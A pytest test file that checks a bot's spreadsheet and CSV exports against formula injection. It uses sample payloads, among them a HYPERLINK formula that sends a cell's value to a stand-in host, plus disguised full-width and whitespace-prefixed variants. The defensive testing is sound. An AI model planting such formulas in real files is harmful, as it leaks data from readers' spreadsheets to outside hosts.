"""Exports that cannot attack the reader (issue #13): text that starts like a spreadsheet formula
is kept as text (`bot.services.spreadsheet`), and every workbook and CSV file goes through that
guard. The helpers check a workbook's cells; test_disclosure.py uses them on every export."""

from __future__ import annotations

import re
import zipfile
from io import BytesIO
from pathlib import Path

from openpyxl import load_workbook

FORMULA = '=HYPERLINK("https://example.org/?x="&A1,"Ver")'
DANGEROUS = [FORMULA, "+51 999", "-1+1", "@SUM(A1)", "\tTAB", "\rCR"]


def test_as_text() -> None:
    from bot.services.spreadsheet import as_text

    assert [as_text(value) for value in DANGEROUS] == [f"'{value}" for value in DANGEROUS]
    assert as_text("Puno") == "Puno" and as_text(-1) == -1 and as_text(None) is None
    assert as_text("—") == "—" and as_text("") == ""


# A formula's sign after blanks (an import that trims them finds it), or in a full-width or
# small form (Excel reads «＝» typed in a cell as «=»).
HIDDEN = ["＝HYPERLINK(\"https://example.org\")", " =1+1", "\u3000＋51 999", "\u00a0@SUM(A1)",
          "\n=1+1", "﹦1", "－1+1", "＠SUM(A1)"]  # fmt: skip
HARMLESS = ["Puno", " Puno", "—", "", "  ", "ｐｕｎｏ", "1+1=2", "Juan @ Puno"]


def test_a_formula_sign_after_blanks_or_in_full_width_is_text() -> None:
    """Failed before: `as_text` and `text_cells` looked at the first character only."""
    from openpyxl import Workbook

    from bot.services.spreadsheet import as_text, workbook_bytes

    assert [as_text(value) for value in HIDDEN] == [f"'{value}" for value in HIDDEN]
    assert [as_text(value) for value in HARMLESS] == HARMLESS
    book = Workbook()
    for value in [*HIDDEN, *HARMLESS]:
        book.active.append([value or None])
    cells = [row[0] for row in load_workbook(BytesIO(workbook_bytes(book))).active.iter_rows()]
    marked = {cell.value or "": cell.quotePrefix for cell in cells}
    assert marked == {**dict.fromkeys(HIDDEN, True), **dict.fromkeys(HARMLESS, False)}


def _formulas(workbook: bytes) -> list[str]:
    """Every sheet's XML: a cell stored as a formula has an <f> element."""
    with zipfile.ZipFile(BytesIO(workbook)) as archive:
        return [
            name
            for name in archive.namelist()
            if name.startswith("xl/worksheets/") and b"<f>" in archive.read(name)
        ]


def _texts(workbook: bytes) -> list[tuple[str, str]]:
    """(value, data_type) of every non-empty cell, as openpyxl reads the file back."""
    book = load_workbook(BytesIO(workbook))
    return [
        (cell.value, cell.data_type)
        for sheet in book.worksheets
        for row in sheet.iter_rows()
        for cell in row
        if isinstance(cell.value, str)
    ]


def assert_formula_is_text(workbook: bytes) -> None:
    assert _formulas(workbook) == []
    texts = _texts(workbook)
    assert (FORMULA, "s") in texts, texts
    assert all(data_type == "s" for value, data_type in texts if value.startswith("=")), texts


def test_every_workbook_and_csv_file_goes_through_the_formula_guard() -> None:
    """Whatever writes a workbook or a CSV file, now or added later (visits, team reports,
    agreements...), saves it with `workbook_bytes` or writes its rows with `csv_rows`, which
    keep text that starts like a formula as text: no module saves a workbook or writes CSV
    rows itself."""
    root = Path(__file__).resolve().parent.parent
    guard = root / "bot" / "services" / "spreadsheet.py"
    producers, bypasses = [], []
    for folder in ("bot", "handlers", "storage", "knowledge"):
        for path in sorted((root / folder).rglob("*.py")):
            if path == guard:
                continue
            source = path.read_text(encoding="utf-8")
            name = str(path.relative_to(root))
            if "Workbook()" in source:
                producers.append(name)
                if "workbook_bytes(" not in source or re.search(r"book\.save\(", source):
                    bypasses.append(name)
            if re.search(r"\.writerows?\(|DictWriter", source):
                bypasses.append(name)
            compact = re.sub(r"\s+", "", source)
            if compact.count("csv.writer(") != compact.count("csv_rows(csv.writer("):
                bypasses.append(name)
    assert bypasses == []
    assert {  # the search finds them (agreements are a sheet of the meeting's workbook)
        "bot/services/indicators/xlsx.py",
        "bot/services/meeting_xlsx.py",
        "bot/services/team_report_xlsx.py",
        "bot/services/visit_xlsx.py",
        "bot/services/workshop_xlsx.py",
    } <= set(producers), producers
